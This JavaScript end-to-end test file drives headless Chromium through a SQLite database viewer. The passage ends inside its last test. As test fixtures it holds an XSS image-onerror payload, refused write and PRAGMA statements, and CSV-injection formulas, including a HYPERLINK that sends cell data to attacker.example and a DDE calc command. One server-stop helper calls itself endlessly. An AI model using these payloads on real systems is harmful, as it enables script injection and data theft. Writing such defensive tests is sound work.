// End-to-end tests of the built browser viewer in headless Chromium (Debian's /usr/bin/chromium,
// driven by playwright-core). Serves web/viewer/dist on 127.0.0.1, opens real files, visits every
// page and checks what it shows. Prints `N passed, N failed` last; exits non-zero on a failure.
//
// Environment: MOTUS_TOOLS_DIR (node_modules with playwright-core and better-sqlite3; default
// <repo>/tools), MOTUS_BIN (the native motus binary; optional), MOTUS_FIXTURES (default
// <repo>/../shared/fixtures), MOTUS_WEB_DIST (default web/viewer/dist), MOTUS_ARTIFACTS (default
// <repo>/test-artifacts/browser), MOTUS_BIG_DB_MB (size of the generated large database, default 100),
// MOTUS_HUGE_DB_MB (size of the generated database over 2 GiB, default 2200; it is deleted after).

import http from 'node:http';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { execFileSync, spawn } from 'node:child_process';
import { createRequire } from 'node:module';
import { fileURLToPath } from 'node:url';

const repo = path.resolve(path.dirname(fileURLToPath(import.meta.url)), '../..');
const tools = process.env.MOTUS_TOOLS_DIR || path.join(repo, 'tools');
const requireTool = createRequire(path.join(tools, 'package.json'));
const { chromium } = requireTool('playwright-core');
const Database = requireTool('better-sqlite3');

const fixtures = process.env.MOTUS_FIXTURES || path.join(repo, '..', 'shared', 'fixtures');
const dist = process.env.MOTUS_WEB_DIST || path.join(repo, 'web', 'viewer', 'dist');
const artifacts = process.env.MOTUS_ARTIFACTS || path.join(repo, 'test-artifacts', 'browser');
const motusBin = process.env.MOTUS_BIN || '';
const bigMb = Number(process.env.MOTUS_BIG_DB_MB || 100);
fs.mkdirSync(artifacts, { recursive: true });
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'motus-e2e-'));

// ---------------------------------------------------------------------------------------------
// Test files
const populated = path.join(fixtures, 'motusos-0.3.3-populated.db');
const foreign = path.join(fixtures, 'motusos-0.6.5-populated.db');
const notSqlite = path.join(tmp, 'notes.db');
fs.writeFileSync(notSqlite, 'This is a text file, not a database.\n'.repeat(50));

function python(script, ...args) {
  return execFileSync('python3', ['-c', script, ...args], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
}

// A copy of the populated fixture with a hostile roadmap title and one tampered evidence row.
const XSS = '<img src=x onerror=alert(1)>';
const hostile = path.join(tmp, 'hostile.db');
python(`
import sqlite3, sys
src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
dst = sqlite3.connect(sys.argv[2])
src.backup(dst)
dst.execute("PRAGMA journal_mode=DELETE")
dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES ('RI-XSS-1', 'phase_x', ?, 'pending')", (sys.argv[3],))
names = [r[0] for r in dst.execute("SELECT name FROM sqlite_master WHERE type='trigger' AND tbl_name='evidence'")]
for n in names: dst.execute('DROP TRIGGER "%s"' % n)
dst.execute("UPDATE evidence SET log_excerpt = 'tampered after recording' WHERE id = (SELECT id FROM evidence WHERE uri LIKE 'evidence:%' AND attempt_id IS NOT NULL ORDER BY id LIMIT 1)")
dst.commit()
`, populated, hostile, XSS);

// A large Motus database: the populated fixture plus bulk audit rows up to ~bigMb MB.
const big = path.join(tmp, 'big.db');
python(`
import sqlite3, sys
src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
dst = sqlite3.connect(sys.argv[2])
src.backup(dst)
dst.execute("PRAGMA journal_mode=DELETE")
target = int(sys.argv[3]) * 1024 * 1024
pad = 'x' * 900
rows = ((('2026-01-01T00:00:%02dZ' % (i % 60)), 'bulk.test', 'generator', 'bulk', 'B-%d' % i, 'create', None, '{"n": %d, "pad": "%s"}' % (i, pad), None, 'bulk', 1) for i in range(target // 1000))
dst.executemany("INSERT INTO audit_log (timestamp, event_type, actor, resource_type, resource_id, action, old_value, new_value, context, instance_id, protocol_version) VALUES (?,?,?,?,?,?,?,?,?,?,?)", rows)
dst.commit()
`, populated, big, String(bigMb));

// A database made by our own binary.
let fresh = null;
let freshHasWork = false;
if (motusBin) {
  fresh = path.join(tmp, 'fresh.db');
  execFileSync(motusBin, ['--db', fresh, 'db', 'init'], { stdio: 'pipe' });
  // The kernel's quickstart, when this build has it.
  let hasWork = true;
  try { execFileSync(motusBin, ['work', '--help'], { stdio: 'pipe' }); } catch { hasWork = false; }
  freshHasWork = hasWork;
  if (hasWork) {
    const run = (...a) => execFileSync(motusBin, ['--db', fresh, '--json', ...a], { encoding: 'utf8', stdio: 'pipe' });
    const lease = JSON.parse(run('work', 'claim', 'ADHOC-TASK-001', '--intent', 'e2e quickstart')).lease_id;
    run('work', 'evidence', lease, 'test_result', '--passed', '3');
    run('work', 'decision', lease, 'Use the quickstart for the viewer test');
    run('work', 'release', lease, 'success');
  }
  execFileSync('python3', ['-c', `import sqlite3,sys; c=sqlite3.connect(sys.argv[1]); c.execute('PRAGMA wal_checkpoint(TRUNCATE)'); c.close()`, fresh]);
}

// Independent answers: the native CLI where it has the command, else the original's own views.
function oracle(file) {
  const copy = path.join(tmp, `oracle-${path.basename(file)}`);
  python(`
import sqlite3, sys
src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
dst = sqlite3.connect(sys.argv[2]); src.backup(dst); dst.close()
`, file, copy);
  const db = new Database(copy, { readonly: true });
  const one = (sql, ...a) => db.prepare(sql).pluck().get(...a);
  const o = {
    items: one('SELECT count(*) FROM roadmap_items WHERE deleted_at IS NULL'),
    ready: one('SELECT count(*) FROM v_ready_items'),
    blocked: one('SELECT count(*) FROM v_blocked_items'),
    evidence: one('SELECT count(*) FROM evidence'),
    audit: one('SELECT count(*) FROM audit_log'),
    completed: one("SELECT count(*) FROM roadmap_items WHERE status_key = 'completed'"),
    maxId: one('SELECT max(id) FROM roadmap_items'),
    blockedItem: db.prepare(`SELECT ri.id, rd.depends_on_id FROM roadmap_items ri JOIN roadmap_dependencies rd ON rd.item_id = ri.id AND rd.dependency_type = 'blocks'
      JOIN roadmap_items dep ON dep.id = rd.depends_on_id WHERE ri.deleted_at IS NULL AND ri.status_key NOT IN ('completed','deferred') AND dep.status_key != 'completed' ORDER BY ri.id LIMIT 1`).get(),
    verified: db.prepare(`SELECT work_id, sha256 FROM evidence WHERE uri LIKE 'evidence:%' AND attempt_id IS NOT NULL ORDER BY id LIMIT 1`).get(),
    firstEventType: db.prepare('SELECT event_type, count(*) AS n FROM audit_log GROUP BY 1 ORDER BY 2 DESC, 1 LIMIT 1').get(),
    programs: one('SELECT count(*) FROM programs WHERE deleted_at IS NULL'),
  };
  db.close();
  if (motusBin) {
    // The native CLI answers on a migrated copy (the viewer shows the unmigrated file as is).
    const migrated = path.join(tmp, `migrated-${path.basename(file)}`);
    fs.copyFileSync(copy, migrated);
    const cli = (args) => { try { return JSON.parse(execFileSync(motusBin, ['--db', migrated, '--json', ...args], { encoding: 'utf8', stdio: 'pipe' })); } catch { return null; } };
    cli(['db', 'migrate']);
    const list = cli(['roadmap', 'list']);
    const ready = cli(['roadmap', 'ready', '--all']);
    const blocked = cli(['roadmap', 'blocked']);
    if (Array.isArray(list)) { o.items = list.length; o.source = 'motus roadmap list/ready/blocked'; }
    if (Array.isArray(ready)) o.ready = ready.length;
    if (Array.isArray(blocked)) o.blocked = blocked.length;
    const verify = cli(['work', 'verify', o.verified.work_id]);
    if (verify) o.cliVerify = verify;
  }
  return o;
}

// ---------------------------------------------------------------------------------------------
// The viewer is served by `motus view` (the way users run it) when the binary is given, else by
// a tiny Node static server. Either way only the viewer's own files are served.
const mime = { '.html': 'text/html; charset=utf-8', '.js': 'text/javascript', '.wasm': 'application/wasm', '.css': 'text/css', '.json': 'application/json' };
let origin;
let stopServer;
if (motusBin && process.env.MOTUS_E2E_SERVER !== 'node') {
  // No live database for this session (the live test starts its own server).
  const child = spawn(motusBin, ['--db', path.join(tmp, 'absent.db'), 'view', '--port', '0', '--dir', dist], { stdio: ['ignore', 'pipe', 'inherit'] });
  origin = await new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('motus view did not print its address within 10 s')), 10000);
    child.stdout.on('data', (d) => {
      const m = /http:\/\/(127\.0\.0\.1:\d+)\//.exec(String(d));
      if (m) { clearTimeout(timer); resolve(`http://${m[1]}`); }
    });
    child.on('exit', (code) => { clearTimeout(timer); reject(new Error(`motus view exited with ${code}`)); });
  });
  stopServer = () => { child.removeAllListeners('exit'); child.kill(); };
  console.log(`serving with: motus view (${origin})`);
} else {
  const server = http.createServer((req, res) => {
    const rel = decodeURIComponent(new URL(req.url, 'http://x').pathname).replace(/^\/+/, '') || 'index.html';
    const file = path.join(dist, rel);
    if (!file.startsWith(dist) || !fs.existsSync(file) || fs.statSync(file).isDirectory()) { res.writeHead(404); res.end('not found'); return; }
    res.writeHead(200, { 'content-type': mime[path.extname(file)] || 'application/octet-stream', 'cache-control': 'no-store' });
    fs.createReadStream(file).pipe(res);
  });
  await new Promise((r) => server.listen(0, '127.0.0.1', r));
  origin = `http://127.0.0.1:${server.address().port}`;
  stopServer = () => stopServer();
  console.log(`serving with: node (${origin})`);
}

// ---------------------------------------------------------------------------------------------
const results = [];
const figures = {};
async function test(name, fn) {
  const t0 = Date.now();
  try { await fn(); results.push([name, true]); console.log(`ok   ${name} (${Date.now() - t0} ms)`); }
  catch (e) { results.push([name, false]); console.log(`FAIL ${name}: ${e && e.stack ? e.stack.split('\n').slice(0, 3).join(' | ') : e}`); }
}
function eq(actual, expected, what) { if (actual !== expected) throw new Error(`${what}: expected ${JSON.stringify(expected)}, got ${JSON.stringify(actual)}`); }
function ok(cond, what) { if (!cond) throw new Error(what); }

const userDataDir = fs.mkdtempSync(path.join(os.tmpdir(), 'motus-chromium-'));
const context = await chromium.launchPersistentContext(userDataDir, {
  executablePath: process.env.CHROMIUM || '/usr/bin/chromium',
  headless: true,
  acceptDownloads: true,
  viewport: { width: 1400, height: 900 },
  args: ['--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
});
const page = context.pages()[0] || await context.newPage();
const consoleErrors = [];
page.on('console', (m) => { if (m.type() === 'error') consoleErrors.push(m.text()); });
page.on('pageerror', (e) => consoleErrors.push(String(e)));
let dialogs = 0;
page.on('dialog', async (d) => { dialogs += 1; await d.dismiss(); });

// Every request after the first load: URL, method, whether it carried a body. Workers included.
let loaded = false;
const afterLoad = [];
context.on('request', (r) => {
  if (loaded) afterLoad.push({ url: r.url(), method: r.method(), body: r.postData() != null });
});

async function shot(name) { await page.screenshot({ path: path.join(artifacts, `${name}.png`), fullPage: false }); }
async function openFile(file) {
  const t0 = Date.now();
  await page.setInputFiles('#dbfile', file);
  await page.waitForFunction(() => document.querySelector('.app')?.dataset.state !== 'opening' && (document.querySelector('#open-error') || document.querySelector('.file-info')), null, { timeout: 120000 });
  return Date.now() - t0;
}
async function waitLoaded(pageName) {
  await page.waitForSelector(`[data-page="${pageName}"] .loaded`, { timeout: 60000 });
}
async function goto(hash, pageName) {
  await page.evaluate((h) => { location.hash = h; }, hash);
  await waitLoaded(pageName);
}
const text = (sel) => page.textContent(sel);

const pop = oracle(populated);

await test('the viewer loads from its own origin and shows the file picker', async () => {
  await page.goto(`${origin}/index.html`);
  await page.waitForSelector('#dbfile', { state: 'attached', timeout: 30000 });
  await page.waitForSelector('[data-page="open"]');
  // Let the worker start (it fetches worker.js and the wasm once).
  await page.waitForTimeout(500);
  loaded = true;
  await shot('01-open');
});

await test('a file that is not SQLite gives a clear error and the page keeps working', async () => {
  await openFile(notSqlite);
  const msg = await text('#open-error');
  ok(/not a SQLite database/.test(msg), `error says what happened: ${msg}`);
  ok(/Choose your coordination\.db/.test(msg), `error says what to do: ${msg}`);
  await shot('02-not-sqlite');
});

await test('the populated fixture opens and the overview shows counts matching the CLI / the original views', async () => {
  const t0 = Date.now();
  await openFile(populated);
  await waitLoaded('overview');
  figures.populated_open_to_first_screen_ms = Date.now() - t0;
  await page.waitForSelector('#ready-count');
  await page.waitForSelector('#recent-panel tr');
  figures.populated_open_to_overview_ms = Date.now() - t0;
  const n = async (sel) => Number((await text(sel)).trim());
  eq(await n('[data-count="roadmap_items"] .n'), pop.items, 'roadmap items');
  eq(await n('[data-count="evidence"] .n'), pop.evidence, 'evidence');
  eq(await n('[data-count="audit_log"] .n'), pop.audit, 'audit rows');
  eq(await n('#ready-count'), pop.ready, `ready (${pop.source || 'v_ready_items'})`);
  eq(await n('#blocked-count'), pop.blocked, `blocked (${pop.source || 'v_blocked_items'})`);
  eq(await n('#active-lease-count'), 5, 'active leases');
  ok((await page.$$('#recent-panel tr')).length > 0, 'recent activity listed');
  const kind = await page.getAttribute('.file-info', 'data-kind');
  eq(kind, 'motus', 'detected as a Motus database');
  ok((await text('.file-info')).includes('schema v20'), 'schema version of the file (not migrated)');
  await shot('03-overview');
});

await test('the roadmap shows a known blocked item and why', async () => {
  const { id, depends_on_id } = pop.blockedItem;
  await goto(`#/roadmap?state=blocked&item=${encodeURIComponent(id)}`, 'roadmap');
  const row = page.locator(`tr.item-row[data-item="${id}"]`);
  eq(await row.getAttribute('data-state'), 'blocked', 'state');
  const why = await row.locator('.why-list').innerText();
  ok(why.includes(`waits for ${depends_on_id}`), `why names the blocker ${depends_on_id}: ${why}`);
  eq(await page.locator('tr.item-row[data-state="blocked"]').count(), pop.blocked, 'blocked rows');
  await shot('04-roadmap-blocked');
});

await test('the dependency graph is drawn as SVG with a layered layout', async () => {
  await goto('#/graph', 'graph');
  const nodes = await page.locator('svg#dep-graph g.node').count();
  const edges = await page.locator('svg#dep-graph line.edge').count();
  ok(nodes > 100, `nodes drawn: ${nodes}`);
  eq(edges, 198, 'edges drawn');
  // Layered: for every blocks edge the prerequisite sits above the item that waits.
  const downward = await page.$$eval('svg#dep-graph line.edge', (ls) => ls.filter((l) => Number(l.getAttribute('y2')) > Number(l.getAttribute('y1'))).length);
  ok(downward / edges > 0.9, `edges point downwards between layers: ${downward}/${edges}`);
  await page.locator('svg#dep-graph g.node').first().click();
  await page.waitForFunction(() => location.hash.includes('focus='));
  await shot('05-graph');
});

await test('a work item timeline shows attempts and re-verifies evidence hashes', async () => {
  const { work_id, sha256 } = pop.verified;
  await goto(`#/work/${encodeURIComponent(work_id)}`, 'timeline');
  const verified = page.locator('[data-hash="verified"]');
  ok(await verified.count() >= 1, 'a verified hash is shown');
  ok((await page.locator('[data-page="timeline"]').innerText()).includes(sha256), 'the stored hash is shown');
  if (pop.cliVerify) {
    const checks = Array.isArray(pop.cliVerify) ? pop.cliVerify : (pop.cliVerify.evidence || []);
    const okCli = checks.filter((c) => (c.status ? c.status === 'ok' : c.ok)).length;
    if (checks.length) eq(await verified.count(), okCli, 'verified hashes = `motus work verify` ok count');
  }
  eq(await page.locator('[data-hash="mismatch"]').count(), 0, 'no mismatches in the untouched fixture');
  ok(await page.locator('article.attempt').count() >= 1, 'attempts listed');
  await shot('06-timeline');
  await goto('#/work', 'work');
  ok(await page.locator('tr[data-work]').count() > 10, 'work items listed');
});

await test('the program hierarchy nests products under programs', async () => {
  await goto('#/programs', 'programs');
  eq(await page.locator('.hierarchy > li.h-program').count(), pop.programs, 'programs');
  ok(await page.locator('li.h-product').count() >= 1, 'products shown');
  await shot('07-programs');
});

await test('the audit log filters by event type and keeps the filter in the URL', async () => {
  await goto('#/audit', 'audit');
  eq(Number(await page.getAttribute('#audit-total', 'data-total')), pop.audit, 'all audit rows');
  await page.selectOption('#audit-type', pop.firstEventType.event_type);
  await page.waitForFunction((n) => document.querySelector('#audit-total')?.dataset.total === String(n), pop.firstEventType.n);
  ok(decodeURIComponent(await page.evaluate(() => location.hash)).includes(`type=${pop.firstEventType.event_type}`), 'filter in URL');
  await page.locator('tr[data-audit]').first().click();
  await page.waitForSelector('#row-detail');
  await shot('08-audit');
});

await test('tables: paging, sorting, filtering, types, row detail, export, URL state across a reload', async () => {
  await goto('#/table/roadmap_items', 'tables');
  eq(Number(await page.getAttribute('#row-total', 'data-total')), pop.items, 'rows');
  ok((await page.locator('th .col-type').first().innerText()).length > 0, 'column types shown');
  await page.click('button.sort[data-sort="id"]');
  await page.click('button.sort[data-sort="id"]');
  await page.waitForFunction(() => location.hash.includes('desc=1'));
  await page.waitForSelector('[data-page="tables"] .loaded tr.data-row');
  eq((await page.locator('tr.data-row').first().locator('td').first().innerText()).trim(), pop.maxId, 'sorted by id descending');
  await page.selectOption('#filter-column', 'status_key');
  await page.selectOption('#filter-op', 'eq');
  await page.fill('#filter-value', 'completed');
  await page.click('#filter-add');
  await page.waitForFunction((n) => document.querySelector('#row-total')?.dataset.total === String(n), pop.completed);
  await page.locator('tr.data-row').nth(2).click();
  await page.waitForSelector('#row-detail');
  const hash = await page.evaluate(() => location.hash);
  ok(hash.includes('row=2') && hash.includes('f='), `selection and filter in the URL: ${hash}`);
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  const csv = fs.readFileSync(await dl.path(), 'utf8');
  ok(csv.startsWith('id,phase_key,title'), `CSV header: ${csv.slice(0, 40)}`);
  eq(csv.trim().split('\r\n').length, pop.completed + 1, 'CSV rows = filtered rows + header');
  const [dj] = await Promise.all([page.waitForEvent('download'), page.click('#export-json')]);
  eq(JSON.parse(fs.readFileSync(await dj.path(), 'utf8')).length, pop.completed, 'JSON rows');
  await shot('09-table');
  // Reload: the database is gone (it only lived in this page), the URL stays; opening the
  // same file returns to the same table, filter, order and selection.
  await page.reload();
  await page.waitForSelector('#dbfile', { state: 'attached' });
  eq(await page.evaluate(() => location.hash), hash, 'URL kept across reload');
  await openFile(populated);
  await waitLoaded('tables');
  eq(Number(await page.getAttribute('#row-total', 'data-total')), pop.completed, 'filter restored');
  ok(await page.locator('tr.data-row.selected').count() === 1, 'selection restored');
  await page.waitForSelector('#row-detail');
});

await test('the console runs reads, refuses writes clearly, and exports results', async () => {
  await page.evaluate(() => { location.hash = '#/console'; });
  await page.waitForSelector('#sql');
  await page.fill('#sql', 'SELECT count(*) AS n FROM roadmap_items WHERE deleted_at IS NULL');
  await page.click('#run-sql');
  await page.waitForSelector('#console-result');
  eq((await page.locator('#console-result tr.data-row td').first().innerText()).trim(), String(pop.items), 'count via console');
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#console-export-csv')]);
  eq(fs.readFileSync(await dl.path(), 'utf8'), `n\r\n${pop.items}\r\n`, 'exported result');
  await shot('10-console');
  for (const bad of ['DELETE FROM roadmap_items', 'PRAGMA query_only = OFF', "UPDATE roadmap_items SET title = 'x'"]) {
    await page.fill('#sql', bad);
    await page.click('#run-sql');
    await page.waitForSelector('#console-error');
    ok(/console only reads/.test(await text('#console-error')), `refused: ${bad}`);
  }
  await page.fill('#sql', 'SELECT nope FROM roadmap_items');
  await page.click('#run-sql');
  await page.waitForSelector('#console-error');
  ok(/no such column/.test(await text('#console-error')), 'SQL error shown');
  // The data is unchanged.
  await page.fill('#sql', 'SELECT count(*) FROM roadmap_items');
  await page.click('#run-sql');
  await page.waitForSelector('#console-result');
  await shot('11-console-refused');
});

await test('a non-Motus SQLite file opens in generic mode with a notice', async () => {
  await openFile(foreign);
  await goto('#/tables', 'tables');
  ok(/Not a Motus coordination database/.test(await text('#db-notice')), 'notice shown');
  eq(await page.getAttribute('.file-info', 'data-kind'), 'generic', 'generic kind');
  eq(await page.locator('nav a[data-nav="overview"]').count(), 0, 'no Motus pages');
  ok(await page.locator('a[data-object="runs"]').count() === 1, 'its tables listed');
  await shot('12-generic');
});

if (fresh) {
  await test('a fresh database made by our binary opens as Motus', async () => {
    await openFile(fresh);
    await goto('#/overview', 'overview');
    eq(await page.getAttribute('.file-info', 'data-kind'), 'motus', 'Motus kind');
    if (freshHasWork) {
      await goto('#/work/ADHOC-TASK-001', 'timeline');
      ok(await page.locator('[data-hash="verified"]').count() >= 1, 'the quickstart evidence verifies');
      ok((await page.locator('[data-page="timeline"]').innerText()).includes('Use the quickstart for the viewer test'), 'the decision is shown');
    }
    await shot('13-fresh');
  });
}

await test('drag and drop anywhere on the page opens a file', async () => {
  const b64 = fs.readFileSync(path.join(fixtures, 'motusos-0.3.3-quickstart.db')).toString('base64');
  const dt = await page.evaluateHandle((data) => {
    const bytes = Uint8Array.from(atob(data), (c) => c.charCodeAt(0));
    const t = new DataTransfer();
    t.items.add(new File([bytes], 'dropped-quickstart.db'));
    return t;
  }, b64);
  await page.dispatchEvent('main', 'drop', { dataTransfer: dt });
  await page.waitForFunction(() => document.querySelector('.file-name')?.textContent === 'dropped-quickstart.db', null, { timeout: 30000 });
});

await test('a roadmap title holding HTML renders as text, and a tampered evidence hash shows as a mismatch', async () => {
  await openFile(hostile);
  await goto('#/roadmap?q=RI-XSS', 'roadmap');
  const cell = page.locator('tr.item-row[data-item="RI-XSS-1"] td.title');
  ok((await cell.innerText()).includes(XSS), 'title shown literally');
  eq(await page.locator('img').count(), 0, 'no <img> element was created');
  eq(dialogs, 0, 'no script ran');
  await shot('14-xss-as-text');
  await goto(`#/work/${encodeURIComponent(pop.verified.work_id)}`, 'timeline');
  ok(await page.locator('[data-hash="mismatch"]').count() >= 1, 'mismatch shown');
  ok(/HASH MISMATCH/.test(await page.locator('[data-hash="mismatch"]').first().innerText()), 'mismatch says so');
  await shot('15-hash-mismatch');
});

await test(`a ${bigMb} MB database opens off the main thread with progress`, async () => {
  await page.evaluate(() => { location.hash = '#/overview'; });
  // Sample the page while it opens: progress must show, and the main thread must keep ticking.
  await page.evaluate(() => {
    window.__ticks = []; window.__progress = new Set();
    const tick = () => { window.__ticks.push(performance.now()); if (window.__ticks.length < 100000) requestAnimationFrame(tick); };
    requestAnimationFrame(tick);
    const obs = new MutationObserver(() => { const p = document.querySelector('#open-progress span'); if (p) window.__progress.add(p.textContent); });
    obs.observe(document.body, { subtree: true, childList: true, characterData: true });
  });
  const t0 = Date.now();
  await openFile(big);
  await waitLoaded('overview');
  const ms = Date.now() - t0;
  figures.big_db_bytes = fs.statSync(big).size;
  figures.big_open_to_overview_ms = ms;
  const { maxGap, progress } = await page.evaluate(() => {
    const t = window.__ticks; let g = 0; for (let i = 1; i < t.length; i++) g = Math.max(g, t[i] - t[i - 1]);
    return { maxGap: g, progress: [...window.__progress] };
  });
  figures.big_open_longest_main_thread_gap_ms = Math.round(maxGap);
  // Read in place: opening reads a few pages, not the file.
  const bytesRead = Number(await page.getAttribute('#open-timing', 'data-bytes-read'));
  figures.big_open_bytes_read = bytesRead;
  ok(bytesRead > 0 && bytesRead < figures.big_db_bytes / 20, `opening read ${bytesRead} of ${figures.big_db_bytes} bytes`);
  ok(maxGap < 1000, `the page kept responding (longest frame gap ${Math.round(maxGap)} ms; progress: ${progress.join(' / ')})`);
  await shot('16-big-overview');
});


// ---------------------------------------------------------------------------------------------
// Files the viewer must survive. Each is made by Python's sqlite3 (a real SQLite).
function makeDb(file, script, ...args) {
  python(`
import sqlite3, sys
src = sqlite3.connect('file:' + sys.argv[1] + '?mode=ro&immutable=1', uri=True)
dst = sqlite3.connect(sys.argv[2])
src.backup(dst)
dst.execute("PRAGMA journal_mode=DELETE")
${script}
dst.commit()
dst.close()
`, populated, file, ...args);
  return file;
}

await test('a link that carries a console statement does not run it; it waits for Run', async () => {
  const endless = 'WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c';
  await page.evaluate((h) => { location.hash = h; }, `#/console?sql=${encodeURIComponent(endless)}`);
  await openFile(populated);
  await page.waitForSelector('#console-from-link');
  eq(await page.inputValue('#sql'), endless, 'the statement is filled in');
  eq(await page.locator('#console-result').count(), 0, 'nothing ran');
  // The worker is free: another page answers at once.
  await goto('#/overview', 'overview');
});

await test('Cancel stops an endless console query and the viewer keeps working', async () => {
  await page.evaluate(() => { location.hash = '#/console'; });
  await page.waitForSelector('#sql');
  await page.fill('#sql', 'WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT count(*) FROM c');
  await page.click('#run-sql');
  await page.waitForSelector('#cancel-query', { timeout: 10000 });
  await page.waitForTimeout(500);
  await page.click('#cancel-query');
  await page.waitForSelector('#console-error[data-code="cancelled"]', { timeout: 10000 });
  await page.fill('#sql', 'SELECT count(*) FROM roadmap_items WHERE deleted_at IS NULL');
  await page.click('#run-sql');
  await page.waitForSelector('#console-result', { timeout: 20000 });
  eq((await page.locator('#console-result tr.data-row td').first().innerText()).trim(), String(pop.items), 'the same file answers after Cancel');
});

await test('EXPLAIN of a PRAGMA cannot change the connection', async () => {
  for (const bad of ['EXPLAIN PRAGMA query_only = 0', 'EXPLAIN PRAGMA hard_heap_limit = 1000', 'explain query plan pragma foreign_keys = off', 'PRAGMA main.query_only = 0']) {
    await page.fill('#sql', bad);
    await page.click('#run-sql');
    await page.waitForSelector('#console-error');
    ok(/console only reads/.test(await text('#console-error')), `refused: ${bad}`);
  }
  await page.fill('#sql', 'PRAGMA query_only');
  await page.click('#run-sql');
  await page.waitForSelector('#console-result');
  eq((await page.locator('#console-result tr.data-row td').first().innerText()).trim(), '1', 'query_only is still on');
  // Pages still work (a tiny heap limit would have broken them).
  await goto('#/roadmap', 'roadmap');
});

await test('a self-loop and a dense cyclic graph are drawn without stopping the worker', async () => {
  // A crafted (or hand-edited) file: the original's guards against this are removed first.
  const loops = makeDb(path.join(tmp, 'cycles.db'), `
dst.execute("DROP TRIGGER roadmap_dep_no_cycles")
dst.execute("DROP TRIGGER enforce_phase_limit")
dst.execute("PRAGMA ignore_check_constraints = ON")
ids = [r[0] for r in dst.execute("SELECT id FROM roadmap_items WHERE deleted_at IS NULL ORDER BY id LIMIT 1")]
dst.execute("INSERT INTO roadmap_dependencies (item_id, depends_on_id, dependency_type) VALUES (?, ?, 'blocks')", (ids[0], ids[0]))
for i in range(400):
    dst.execute("INSERT INTO roadmap_items (id, phase_key, title, status_key) VALUES (?, 'phase_x', ?, 'pending')", ('CYC-%03d' % i, 'cycle item %d' % i))
seen = set()
for i in range(400):
    for k in (1, 7, 131):
        a, b = 'CYC-%03d' % i, 'CYC-%03d' % ((i + k) % 400)
        dst.execute("INSERT OR IGNORE INTO roadmap_dependencies (item_id, depends_on_id, dependency_type) VALUES (?, ?, 'blocks')", (a, b))
`);
  await openFile(loops);
  await goto('#/graph', 'graph');
  ok(/depend on themselves/.test(await text('#graph-self-loops')), 'the self-loop is named');
  await page.waitForSelector('#graph-cycle');
  const drawn = await page.locator('svg#dep-graph g.node').count();
  ok(drawn >= 400 && drawn <= 600, `every cycle item drawn, within the cap: ${drawn}`);
  ok(/\d+ items/.test(await text('#graph-count')), `counts said: ${await text('#graph-count')}`);
  eq(await page.locator('#worker-error').count(), 0, 'the worker did not stop');
  await shot('17-graph-cycles');
});

await test('a broken view, an unknown virtual table and an endless view do not break the Tables page', async () => {
  const broken = makeDb(path.join(tmp, 'broken.db'), `
dst.execute("CREATE VIEW broken_view AS SELECT nope FROM roadmap_items")
dst.execute("CREATE VIEW endless_view AS WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT x FROM c")
dst.execute("PRAGMA writable_schema = ON")
dst.execute("INSERT INTO sqlite_master (type, name, tbl_name, rootpage, sql) VALUES ('table', 'alien', 'alien', 0, 'CREATE VIRTUAL TABLE alien USING no_such_module(x)')")
dst.execute("PRAGMA writable_schema = OFF")
`);
  await openFile(broken);
  await goto('#/tables', 'tables');
  await page.waitForSelector('tr[data-object-row="roadmap_items"] .row-count', { timeout: 30000 });
  ok(Number(await page.getAttribute('tr[data-object-row="roadmap_items"] .row-count', 'data-count')) >= pop.items, 'tables still counted');
  ok(/cannot be read/.test(await text('tr[data-object-row="broken_view"]')), 'the broken view says so');
  ok(/cannot be read|not counted/.test(await text('tr[data-object-row="alien"]')), 'the unknown module says so');
  // The endless view: its page stops at the time budget with a clear message; the rest works.
  await page.evaluate(() => { location.hash = '#/table/endless_view'; });
  await page.waitForSelector('[data-page="tables"] .error[data-code="timeout"]', { timeout: 40000 });
  ok(/Stopped after/.test(await text('[data-page="tables"] .error[data-code="timeout"]')), 'the time budget is explained');
  await goto('#/table/roadmap_items', 'tables');
  await page.waitForSelector('#row-total');
  await shot('18-broken-objects');
});

await test('a huge cell travels by its size, not its content', async () => {
  const huge = makeDb(path.join(tmp, 'hugecell.db'), `
dst.execute("CREATE TABLE attachments (id INTEGER PRIMARY KEY, name TEXT, body BLOB)")
dst.execute("INSERT INTO attachments (name, body) VALUES ('big', zeroblob(280 * 1024 * 1024)), ('small', x'0102')")
`);
  await openFile(huge);
  await goto('#/table/attachments', 'tables');
  await page.waitForSelector('tr.data-row .large');
  ok(/280\.0 MiB/.test(await text('tr.data-row .large')), `size shown: ${await text('tr.data-row .large')}`);
  ok(/2 bytes/.test(await text('tr.data-row:nth-child(2)')), 'a small blob is shown');
  fs.rmSync(huge);
});

await test('CSV export neutralises spreadsheet formulas', async () => {
  const formulas = makeDb(path.join(tmp, 'formulas.db'), `
dst.execute("CREATE TABLE notes (id INTEGER PRIMARY KEY, body TEXT, n INTEGER)")
for b in ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '@SUM(1+1)*cmd|" /C calc"!A0', '+1+1', '-2+3', '\\t=1', 'plain']:
    dst.execute("INSERT INTO notes (body, n) VALUES (?, -5)", (b,))
`);
  await openFile(formulas);
  await goto('#/table/notes', 'tables');
  const [dl] = await Promise.all([page.waitForEvent('download'), page.click('#export-csv')]);
  const lines = fs.readFileSync(await dl.path(), 'utf8').trim().split('\r\n').slice(1);
  eq(lines.length, 6, 'rows exported');
  for (const l of lines.slice(0, 5)) {
    const field = l.split(',').slice(1, -1).join(',').replace(/^"/, '');
    ok(field.startsWith("'"), `formula neutralised: ${l}`);
  }
